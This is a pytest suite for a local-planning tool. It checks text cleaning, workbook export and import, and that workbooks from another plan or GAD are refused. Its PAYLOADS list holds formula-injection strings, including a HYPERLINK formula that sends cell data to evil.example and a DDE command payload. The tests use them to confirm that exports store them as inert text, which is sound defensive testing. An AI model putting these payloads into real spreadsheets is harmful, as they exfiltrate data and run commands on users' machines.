"""Text is clean at every door, spreadsheets never run it, and a round trip never shortens it;
a workbook belongs to its plan."""

from __future__ import annotations

import json

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from localplan.cli import main
from localplan.domain.plan import Plan
from localplan.errors import UserError
from localplan.exports.workbook.write import write_workbook
from localplan.forms import FieldType, section
from localplan.forms.text import clean, sanitize
from localplan.forms.values import ValueProblem, parse
from localplan.imports.workbook import apply, command, read_workbook

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"clic")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
            "\t=1+1", "=1+1"]


def test_the_text_rule():
    assert clean("a\x0bb\r\nc\rd\u2028e") == "a\nb\nc\nd\ne"
    for bad in ("a\x07b", "\x00", "x\x1bx", "a\x7f", "\ud800"):
        with pytest.raises(ValueError):
            clean(bad)
    assert sanitize("a\x07b\x0bc") == "ab\nc"
    longtext = section("problems").field("description")
    assert longtext.type is FieldType.LONGTEXT
    assert parse(longtext, "uno\x0bdos") == "uno\ndos"
    with pytest.raises(ValueProblem, match="U\\+0007"):
        parse(longtext, "ding\x07")
    name = section("gad").field("name")
    assert parse(name, "GAD\x0bde  Tulcán") == "GAD de Tulcán"


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=60))
def test_any_text_is_accepted_clean_or_refused_with_a_message(text):
    f = section("gad").field("name")
    try:
        value = parse(f, text)
    except ValueProblem as exc:
        assert str(exc)
        return
    if value is not None:
        assert value == sanitize(value) and "\x0b" not in value


def test_json_import_refuses_a_control_character_with_its_place(tmp_path, user_home, capsys):
    plan = tmp_path / "p.lplan"
    assert main(["demo", str(plan)]) == 0
    assert main(["export", str(plan), "--json", str(tmp_path / "p.json")]) == 0
    doc = json.loads((tmp_path / "p.json").read_text(encoding="utf-8"))
    doc["sections"]["gad"]["name"] = "GAD \x07 campana"
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps(doc), encoding="utf-8")
    before = bad.read_bytes()
    capsys.readouterr()
    assert main(["import", str(bad), "-o", str(tmp_path / "new.lplan")]) == 2
    err = capsys.readouterr().err
    assert "U+0007" in err and "Traceback" not in err
    assert not (tmp_path / "new.lplan").exists() and bad.read_bytes() == before


@pytest.fixture
def hostile_plan(tmp_path, user_home):
    path = tmp_path / "p.lplan"
    assert main(["demo", str(path)]) == 0
    plan = Plan.open(path)
    goal = plan.rows("goals")[0]["id"]
    plan.set_value("goals", goal, "statement", PAYLOADS[0])
    plan.set_value("gad", 1, "name", PAYLOADS[1])
    plan.set_value("gad", 1, "authority", PAYLOADS[0])
    problems = plan.rows("problems")
    for row, payload in zip(problems, PAYLOADS[2:]):
        plan.set_value("problems", row["id"], "title", payload)
    plan.close()
    return path


def _formulas(path):
    wb = load_workbook(path)
    found = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f" and not str(c.value).startswith("=SUBTOTAL("):
                    found.append((ws.title, c.coordinate, c.value))
    texts = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    return found, texts


def test_no_export_writes_user_text_as_a_formula(tmp_path, hostile_plan, capsys):
    out = tmp_path / "out"
    out.mkdir()
    assert main(["export", str(hostile_plan), "--xlsx", str(out / "p.xlsx")]) == 0
    assert main(["consolidate", str(hostile_plan), "-o", str(out / "n.xlsx")]) == 0
    assert main(["compare", str(hostile_plan), "-o", str(out / "c.xlsx")]) == 0
    for name in ("p.xlsx", "n.xlsx", "c.xlsx"):
        found, texts = _formulas(out / name)
        assert found == [], (name, found)
        assert PAYLOADS[1] in texts, name  # shown as typed
    _, texts = _formulas(out / "p.xlsx")
    assert {PAYLOADS[0], "+1+1", "-2+3", "@SUM(A1)"} <= texts


def test_formula_text_round_trips_as_text(tmp_path, hostile_plan):
    wb_path = tmp_path / "p.xlsx"
    plan = Plan.open(hostile_plan)
    try:
        write_workbook(plan.snapshot(), wb_path)
        report = read_workbook(wb_path, plan)
        assert report.refused_rows == 0, [p.located() for p in report.problems]
        assert command(plan, report).ops == []
    finally:
        plan.close()


def test_a_real_formula_typed_into_the_workbook_is_refused(tmp_path, hostile_plan):
    wb_path = tmp_path / "p.xlsx"
    plan = Plan.open(hostile_plan)
    try:
        write_workbook(plan.snapshot(), wb_path)
        wb = load_workbook(wb_path)
        ws = next(ws for ws in wb.worksheets if ws.cell(2, 1).value == "id@goals")
        col = next(c for c in range(1, ws.max_column + 1) if ws.cell(2, c).value == "statement")
        ws.cell(3, col).value = "=1+2"
        wb.save(wb_path)
        report = read_workbook(wb_path, plan)
        assert any("fórmula" in p.message for p in report.problems) and report.refused_rows == 1
    finally:
        plan.close()


def test_text_too_long_for_a_cell_is_cut_visibly_and_comes_back_whole(tmp_path, user_home):
    path = tmp_path / "p.lplan"
    assert main(["demo", str(path)]) == 0
    plan = Plan.open(path)
    long_text = ("Artículo largo. " * 4000)[:60_000].strip()
    try:
        sid = "ordinance_versions"
        rid = plan.insert_rows(sid, [{"name": "v1", "date": "2024-01-01", "snapshot": long_text}])[0]
        wb_path = tmp_path / "p.xlsx"
        write_workbook(plan.snapshot(), wb_path)
        wb = load_workbook(wb_path, read_only=True)
        lengths = [len(c) for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row if isinstance(c, str)]
        assert max(lengths) <= 32_767
        cut = [c for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row
               if isinstance(c, str) and len(c) == 32_767]
        assert cut and "LongTexts" in cut[0][-80:]
        wb.close()
        report = read_workbook(wb_path, plan)
        assert report.refused_rows == 0
        assert command(plan, report).ops == []  # nothing shortened
        assert plan.row(sid, rid)["snapshot"] == long_text
    finally:
        plan.close()


# --- a workbook belongs to its plan --------------------------------------------------
@pytest.fixture
def two_plans(tmp_path, user_home):
    mine, other = tmp_path / "mine.lplan", tmp_path / "quito.lplan"
    assert main(["demo", str(mine)]) == 0
    assert main(["new", str(other), "--gad", "1701", "--period", "2023-2027"]) == 0
    assert main(["export", str(other), "--xlsx", str(tmp_path / "quito.xlsx")]) == 0
    assert main(["export", str(mine), "--xlsx", str(tmp_path / "mine.xlsx")]) == 0
    return mine, other


def test_another_gads_workbook_is_refused(tmp_path, two_plans, capsys):
    mine, _ = two_plans
    before = mine.read_bytes()
    capsys.readouterr()
    assert main(["import", str(tmp_path / "quito.xlsx"), "--into", str(mine), "--yes"]) == 2
    err = capsys.readouterr().err
    assert "otro GAD" in err and "1701" in err
    assert mine.read_bytes() == before


def test_another_gads_workbook_can_be_added_as_new_rows(tmp_path, two_plans, capsys):
    mine, _ = two_plans
    plan = Plan.open(mine)
    gad_before = dict(plan.record("gad"))
    plan.close()
    assert main(["import", str(tmp_path / "quito.xlsx"), "--into", str(mine), "--yes", "--as-new-rows"]) == 0
    plan = Plan.open(mine)
    try:
        assert plan.record("gad") == gad_before
    finally:
        plan.close()


def test_rows_added_as_new_rows_keep_no_links_into_the_wrong_rows(tmp_path, two_plans):
    mine, _ = two_plans
    other = tmp_path / "other.lplan"
    assert main(["demo", str(other)]) == 0
    assert main(["export", str(other), "--xlsx", str(tmp_path / "other.xlsx")]) == 0
    plan = Plan.open(mine)
    try:
        goals_before = len(plan.rows("goals"))
        report = read_workbook(tmp_path / "other.xlsx", plan, as_new_rows=True)
        assert any("vínculos" in p.message or "links" in p.message for p in report.problems)
        apply(plan, report)
        new_goals = plan.rows("goals")[goals_before:]
        assert len(new_goals) == goals_before and all(g.get("objective") is None for g in new_goals)
    finally:
        plan.close()


def test_another_plan_file_of_the_same_gad_is_refused(tmp_path, two_plans, capsys):
    mine, _ = two_plans
    copy = tmp_path / "copy.lplan"
    assert main(["export", str(mine), "--json", str(tmp_path / "m.json")]) == 0
    assert main(["import", str(tmp_path / "m.json"), "-o", str(copy)]) == 0
    capsys.readouterr()
    assert main(["import", str(tmp_path / "mine.xlsx"), "--into", str(copy), "--yes"]) == 2
    assert "otro archivo de plan" in capsys.readouterr().err


def _edit(path, sheet_id, edit):
    wb = load_workbook(path)
    ws = next(ws for ws in wb.worksheets if ws.cell(2, 1).value == sheet_id)
    edit(ws, {ws.cell(2, c).value: c for c in range(1, ws.max_column + 1)})
    wb.save(path)


def test_a_second_record_in_the_gad_sheet_erases_nothing(tmp_path, two_plans):
    mine, _ = two_plans
    path = tmp_path / "mine.xlsx"
    _edit(path, "id@gad", lambda ws, ids: ws.cell(4, ids["authority"], "Otra autoridad"))
    plan = Plan.open(mine)
    try:
        report = read_workbook(path, plan)
        assert any("exactamente uno" in p.message for p in report.problems)
        assert not [r for r in report.rows if r.section == "gad"]
    finally:
        plan.close()


@pytest.mark.parametrize("bad", [2.5, 1e16, 1e300, "2,5", "x", True, -3, 0])
def test_ids_must_be_whole_row_numbers(tmp_path, two_plans, bad):
    mine, _ = two_plans
    path = tmp_path / "mine.xlsx"
    _edit(path, "id@goals", lambda ws, ids: ws.cell(3, 1, bad))
    plan = Plan.open(mine)
    try:
        before = plan.snapshot()
        report = read_workbook(path, plan)
        assert report.refused_rows >= 1 and any(p.field == "N.º" for p in report.problems)
        apply(plan, report)
        assert plan.rows("goals") == before.rows("goals")
    finally:
        plan.close()


def test_a_duplicate_id_is_called_a_duplicate(tmp_path, two_plans):
    mine, _ = two_plans
    path = tmp_path / "mine.xlsx"
    _edit(path, "id@goals", lambda ws, ids: ws.cell(4, 1, ws.cell(3, 1).value))
    plan = Plan.open(mine)
    try:
        report = read_workbook(path, plan)
        assert any("dos veces" in p.message for p in report.problems)
    finally:
        plan.close()


def test_a_workbook_without_its_ids_rows_is_refused_with_the_reason(tmp_path, two_plans):
    mine, _ = two_plans
    path = tmp_path / "mine.xlsx"
    wb = load_workbook(path)
    for ws in wb.worksheets:
        if str(ws.cell(2, 1).value or "").startswith("id@"):
            ws.delete_rows(2)
    wb.save(path)
    plan = Plan.open(mine)
    try:
        with pytest.raises(UserError, match="fila 2"):
            read_workbook(path, plan)
    finally:
        plan.close()


@settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(min_size=1, max_size=40))
def test_any_text_survives_the_workbook_or_is_refused_at_the_door(tmp_path_factory, text):
    folder = tmp_path_factory.mktemp("rt")
    plan = Plan.create(folder / "p.lplan", {"gad_code": "0401", "name": "GAD", "level": "cantonal"})
    try:
        try:
            plan.set_value("gad", 1, "authority", text)
        except (UserError, ValueProblem):
            return
        stored = plan.record("gad")["authority"]
        write_workbook(plan.snapshot(), folder / "p.xlsx")
        report = read_workbook(folder / "p.xlsx", plan)
        assert report.refused_rows == 0, [p.located() for p in report.problems]
        assert not [op for op in command(plan, report).ops if getattr(op, "field", None) == "authority"], stored
    finally:
        plan.close()


def test_paste_follows_the_same_text_rule():
    from localplan.forms.values import Context
    from localplan.imports.paste import parse_paste

    sec = section("problems")
    columns = [sec.field("title"), sec.field("description")]
    result = parse_paste("Uno\tLínea\x0bsiguiente\nDos\tcampana\x07\n", sec, columns, Context())
    # a refused cell stays out and the rest of its row goes in (a paste reports cell by cell)
    assert [r.get("description") for r in result.rows] == ["Línea\nsiguiente", None]
    assert [r["title"] for r in result.rows] == ["Uno", "Dos"]
    assert result.refused_cells == 1 and "U+0007" in result.problems[0].message
